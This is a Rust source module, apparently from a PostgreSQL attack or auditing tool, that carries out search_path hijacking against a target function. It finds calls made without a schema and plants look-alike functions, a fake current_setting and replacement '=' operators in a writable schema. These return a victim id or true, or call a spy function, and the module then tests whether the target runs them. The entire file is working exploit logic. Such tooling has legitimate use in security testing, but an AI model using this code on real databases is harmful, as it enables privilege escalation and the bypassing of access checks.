//! Functions and operators of the caller's in place of those that a function names without their schema.

use regex_lite::Regex;

use super::{
    played,
    spy::{Returns, spy},
    unqualified, writable_place,
};
use crate::attack::Hunt;
use crate::{
    catalog::Function,
    session::{SessionError, identifier, literal},
};

/// The server's functions that are replaced at once.
const REPLACED: usize = 40;

/// Puts functions in the way, in a schema that the caller may write to.
pub(super) async fn run(
    hunt: &mut Hunt,
    function: &Function,
    occasions: &[String],
) -> Result<bool, SessionError> {
    let Some(place) = writable_place(hunt, function) else { return Ok(false) };
    let schema = identifier(&place.schema);
    let Ok(pattern) = Regex::new(r"([A-Za-z_][A-Za-z0-9_]*)\s*\(") else { return Ok(false) };
    let lower = function.source.to_ascii_lowercase();
    let mut names: Vec<String> = pattern
        .captures_iter(&lower)
        .map(|found| found[1].to_owned())
        .filter(|name| unqualified(&lower, name))
        .collect();
    names.sort();
    names.dedup();
    let victim = literal(&hunt.stage.victim.id);
    for name in &names {
        let mut made: Vec<String> = hunt
            .stage
            .catalog
            .functions
            .iter()
            .filter(|other| other.name == *name && other.kind == "f" && !other.returns_set)
            .filter_map(|other| {
                let kind = hunt.stage.catalog.types.get(&other.returns)?;
                let returns = format!("{}.{}", identifier(&kind.schema), identifier(&kind.name));
                let value = if kind.category == "B" { "true" } else { &victim };
                Some(format!(
                    "create function {schema}.{}({}) returns {returns} language sql as $nf$ select {value}::{returns} $nf$",
                    identifier(name),
                    other.signature
                ))
            })
            .collect();
        if name == "current_setting" {
            for arguments in ["text", "text, boolean"] {
                made.push(format!(
                    "create function {schema}.current_setting({arguments}) returns text language sql as $nf$ select {victim}::text $nf$"
                ));
            }
        }
        for one in made {
            let mut script = place.made.clone();
            script.push(one);
            if played(hunt, function, &script, occasions).await? {
                return Ok(true);
            }
        }
    }
    let mut script = place.made.clone();
    script.push(spy(hunt, &schema, Returns::Truth));
    script.extend(replacements(hunt, &schema, &names).await?);
    script.extend(operators(&schema));
    played(hunt, function, &script, occasions).await
}

/// Functions named like some of the server's or of the schema's that look around first.
async fn replacements(hunt: &mut Hunt, schema: &str, names: &[String]) -> Result<Vec<String>, SessionError> {
    if names.is_empty() {
        return Ok(Vec::new());
    }
    let listed: Vec<String> = names.iter().map(|name| literal(name)).collect();
    let query = format!(
        "select distinct p.proname, oidvectortypes(p.proargtypes), format_type(p.prorettype, null) from pg_proc p \
         where p.proname in ({}) and p.prokind = 'f' and not p.proretset and p.provariadic = 0 \
         and not (p.proargtypes::oid[] || p.prorettype) && (select array_agg(t.oid) from pg_type t where t.typtype = 'p') \
         order by 1, 2 limit {REPLACED}",
        listed.join(", ")
    );
    let rows = hunt.stage.used.run(&query).await?.rows;
    let one = |row: Vec<Option<String>>| {
        let [name, arguments, returns] = <[Option<String>; 3]>::try_from(row).ok()?;
        Some(format!(
            "create function {schema}.{}({}) returns {} language plpgsql as $nf$ begin perform {schema}.nf_spy(); return null; end $nf$",
            identifier(&name?),
            arguments?,
            returns?
        ))
    };
    Ok(rows.into_iter().filter_map(one).collect())
}

/// Operators that look around first.
fn operators(schema: &str) -> Vec<String> {
    let mut script = Vec::new();
    for kind in ["text", "uuid", "integer", "bigint"] {
        script.push(format!(
            "create function {schema}.nf_same({kind}, {kind}) returns boolean language plpgsql as $nf$ begin perform {schema}.nf_spy(); return true; end $nf$"
        ));
        script.push(format!(
            "create operator {schema}.= (leftarg = {kind}, rightarg = {kind}, function = {schema}.nf_same)"
        ));
    }
    script
}
